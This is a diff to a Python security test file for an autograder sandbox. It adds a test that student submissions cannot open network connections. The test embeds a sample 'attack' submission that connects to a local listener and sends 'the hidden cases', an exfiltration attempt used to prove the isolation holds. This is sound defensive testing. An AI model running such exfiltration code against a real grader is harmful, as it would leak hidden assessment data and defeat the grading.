@@ -11,8 +11,8 @@ nothing but numbers from the sandbox), and the test says so.
 
 What this file proves, in short: a submission cannot reach the references or the solutions,
 cannot forge its results, cannot write to any file of the grader's machine, cannot carry hidden
-inputs out through its feedback (messages, values, printing, type names or shapes), and cannot
-predict the hidden cases once the instructor sets a secret.
+inputs out through its feedback (messages, values, printing, type names or shapes), cannot predict
+the hidden cases once the instructor sets a secret, and cannot connect to the network.
 """
 from __future__ import annotations
 
@@ -599,3 +599,41 @@ def test_hidden_cases_are_per_student_and_reproducible():
                                                                                    "jordan_step")
     # without a secret, everyone shares the public demonstration seed
     assert all(np.array_equal(a, b) for a, b in zip(inputs("alice", None), inputs("bob", None)))
+
+
+# ---- 6. reaching the network ------------------------------------------------------------------------
+def test_no_connection_leaves_the_sandbox(tmp_path):
+    # Stopped by: bwrap's --unshare-all gives the sandbox a network namespace of its own, whose loopback is
+    # not the grader's; a submission that could connect could send the cases it gets anywhere.
+    import socket
+    import threading
+    import time
+
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(20)
+    port, arrived = server.getsockname()[1], []
+
+    def listen():
+        try:
+            while True:
+                connection, _ = server.accept()
+                arrived.append(connection.recv(64))
+                connection.close()
+        except OSError:  # the timeout, or the socket closed at the end of the test
+            pass
+
+    threading.Thread(target=listen, daemon=True).start()
+    attack = ("import socket\ntry:\n"
+              f"    with socket.create_connection(('127.0.0.1', {port}), timeout=3) as s:\n"
+              "        s.sendall(b'the hidden cases')\n    reached = True\n"
+              "except OSError:\n    reached = False\n") + channel("reached")
+    try:
+        assert_stopped(grade(submit(tmp_path, attack)))
+        assert arrived == []
+        assert_worked(grade(submit(tmp_path, attack, name="bob.ipynb"), isolated=False))  # the proof
+        deadline = time.monotonic() + 10  # the listening thread reads what was sent
+        while b"the hidden cases" not in arrived and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert b"the hidden cases" in arrived
+    finally:
+        server.close()
